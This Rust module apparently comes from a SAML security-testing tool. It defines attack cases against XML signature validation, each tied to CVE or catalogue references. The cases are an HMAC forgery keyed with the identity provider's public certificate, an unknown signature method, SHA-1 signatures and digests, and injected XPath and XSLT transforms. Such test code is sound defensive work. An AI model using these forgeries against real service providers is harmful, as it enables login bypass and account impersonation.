//! Attacks by algorithm: weak, unknown, confused, or with a transform that does more than it should.
//!
//! Where the IdP's own key signs, the digest is right, so that only the rule itself stands in the way.

use super::{Attack, FORGERY, ORDINARY, is_signed};
use crate::algorithm::{DigestAlgorithm, SignatureAlgorithm};
use crate::names::DS;
use crate::recipe::{Recipe, RecipeError};
use crate::sign::{Plan, Signer, Transform};
use crate::step::Step;
use crate::tree::Element;
use crate::workshop::Workshop;

const XPATH: &str = "http://www.w3.org/TR/1999/REC-xpath-19991116";
const XSLT: &str = "http://www.w3.org/TR/1999/REC-xslt-19991116";

fn signs_with_rsa(recipe: &Recipe) -> bool {
    is_signed(recipe) && recipe.idp.key().usual_algorithm() == SignatureAlgorithm::RsaSha256
}

pub(super) const HMAC_WITH_CERTIFICATE: Attack = Attack {
    id: "hmac_with_certificate",
    about: "HMAC-SHA256 whose secret is the IdP's public certificate; names the attacker.",
    source: "KEY-05; CVE-2025-48994",
    steps: &[Step::Signed(hmac_with_certificate)],
    ..FORGERY
};

fn hmac_with_certificate(workshop: &mut Workshop<'_>) -> Result<(), RecipeError> {
    // Libraries that fall for it hand the configured PEM text to the MAC.
    workshop.plan.signer = Signer::Hmac(workshop.recipe.idp.certificate_pem().into_bytes());
    workshop.response = workshop.forged_response()?;
    if workshop.recipe.sign.assertion() {
        workshop.sign_assertion()?;
    }
    if workshop.recipe.sign.response() {
        workshop.sign_response()?;
    }
    Ok(())
}

pub(super) const UNKNOWN_ALGORITHM: Attack = Attack {
    id: "unknown_algorithm",
    about: "SignatureMethod is an algorithm that does not exist; the value is RSA-SHA256.",
    source: "KEY-11",
    live: false,
    steps: &[Step::Plan(|plan, _| plan.method_uri = Some("urn:samlspec:no-such-signature-method".to_owned()))],
    ..ORDINARY
};

pub(super) const SHA1_SIGNATURE: Attack = Attack {
    id: "sha1_signature",
    about: "Signed with RSA-SHA1 by the genuine key: refused unless the SP allows it for this IdP.",
    source: "KEY-07",
    needs: "an RSA key",
    applies: signs_with_rsa,
    steps: &[Step::Plan(sha1_signature)],
    ..ORDINARY
};

fn sha1_signature(plan: &mut Plan, _recipe: &Recipe) {
    plan.algorithm = SignatureAlgorithm::RsaSha1;
    plan.digest = DigestAlgorithm::Sha1;
}

pub(super) const SHA1_DIGEST: Attack = Attack {
    id: "sha1_digest",
    about: "RSA-SHA256 over a Reference whose digest is SHA-1: the weaker half decides.",
    source: "KEY-07",
    steps: &[Step::Plan(|plan, _| plan.digest = DigestAlgorithm::Sha1)],
    ..ORDINARY
};

pub(super) const XPATH_TRANSFORM: Attack = Attack {
    id: "xpath_transform",
    about: "The Reference has an XPath transform; this one leaves out only the Signature, another could hide anything.",
    source: "C14-07; CVE-2021-39171; core 5.4.4",
    steps: &[Step::Plan(xpath_transform)],
    ..ORDINARY
};

fn xpath_transform(plan: &mut Plan, _recipe: &Recipe) {
    let expression = Element::new("dsig:XPath").with("xmlns:dsig", DS).saying("not(ancestor-or-self::dsig:Signature)");
    plan.transforms.insert(1, Transform::Other(XPATH, Some(expression)));
}

pub(super) const XSLT_TRANSFORM: Attack = Attack {
    id: "xslt_transform",
    about: "The Reference has an XSLT transform, a program that would run before the signature is trusted.",
    source: "C14-06; CVE-2022-34169; core 5.4.4",
    steps: &[Step::Plan(xslt_transform)],
    ..ORDINARY
};

fn xslt_transform(plan: &mut Plan, _recipe: &Recipe) {
    let copy = Element::new("xsl:template")
        .with("match", "@*|node()")
        .holding(Element::new("xsl:copy").holding(Element::new("xsl:apply-templates").with("select", "@*|node()")));
    let stylesheet = Element::new("xsl:stylesheet")
        .with("xmlns:xsl", "http://www.w3.org/1999/XSL/Transform")
        .with("version", "1.0")
        .holding(copy);
    plan.transforms.insert(1, Transform::Other(XSLT, Some(stylesheet)));
}
